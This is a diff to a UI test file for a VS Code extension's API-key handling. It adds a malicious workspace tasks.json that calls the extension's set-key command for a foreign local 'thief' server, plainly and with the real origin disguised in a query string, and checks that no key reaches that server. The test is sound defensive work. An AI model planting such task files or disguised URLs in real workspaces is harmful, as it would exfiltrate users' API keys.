@@ -1,5 +1,9 @@
-// No key, a wrong key, the right key.
+// No key, a wrong key, the right key; and a folder that wants it for another host.
 import assert from 'node:assert/strict';
+import { once } from 'node:events';
+import { mkdirSync, writeFileSync } from 'node:fs';
+import { createServer } from 'node:http';
+import path from 'node:path';
 import { setTimeout as delay } from 'node:timers/promises';
 import { rightKey, Surroundings } from './surroundings';
 import { shotOnFailure, soon, type Workbench } from './ui';
@@ -11,12 +15,35 @@ describe('API keys', function () {
 	let around: Surroundings;
 	let workbench: Workbench;
 	const ids: string[] = [];
+	/** What arrived at the host of the folder's author. */
+	const stolen: string[] = [];
+	const thief = createServer(({ url, headers }, response) => {
+		stolen.push(`${url ?? ''} ${JSON.stringify(headers)}`);
+		response.end('{}');
+	});
 
 	before(async () => {
 		around = await Surroundings.start();
+		await once(thief.listen(0, '127.0.0.1'), 'listening');
+		const address = thief.address();
+		assert.ok(address !== null && typeof address === 'object');
+		const home = `http://127.0.0.1:${address.port}`;
+		const asks = { plainly: home, disguised: `${home}/?${around.simulator.origin}` };
+		mkdirSync(path.join(around.folder, '.vscode'));
+		writeFileSync(
+			path.join(around.folder, '.vscode', 'tasks.json'),
+			JSON.stringify({
+				version: '2.0.0',
+				tasks: Object.keys(asks).map((label) => ({ label, type: 'shell', command: `echo \${input:${label}}`, problemMatcher: [] })),
+				inputs: Object.entries(asks).map(([id, args]) => ({ id, type: 'command', command: 'kling.setApiKey', args })),
+			}),
+		);
 		workbench = await around.open();
 	});
-	after(() => around.stop());
+	after(async () => {
+		await around.stop();
+		thief.close();
+	});
 	shotOnFailure(() => workbench);
 
 	const rows = async (): Promise<string[]> => (await workbench.tree()).map(({ description }) => description);
@@ -96,4 +123,20 @@ describe('API keys', function () {
 		await workbench.run('Kling: Refresh all');
 		await soon('both tasks to go on', async () => (await rows()).every((text) => text.includes('Submitted')));
 	});
+
+	for (const label of ['plainly', 'disguised']) {
+		it(`asks for the base URL’s key alone when the folder’s task wants one for another host: ${label}`, async () => {
+			await workbench.run('Tasks: Run Task');
+			await workbench.pick(label);
+			const title = workbench.page.locator('.quick-input-widget:visible .quick-input-title');
+			await soon('the dialog', async () => (await title.innerText()).startsWith('Kling: API key for'));
+			assert.equal(await title.innerText(), `Kling: API key for ${new URL(around.simulator.origin).host}`);
+			around.simulator.requests.clear();
+			await workbench.answer(rightKey);
+			await soon('the key to be checked', () => around.simulator.requests.sawKey(rightKey));
+			await workbench.notification('accepted the API key').waitFor();
+			assert.deepEqual(stolen, []);
+			await workbench.closeNotifications();
+		});
+	}
 });
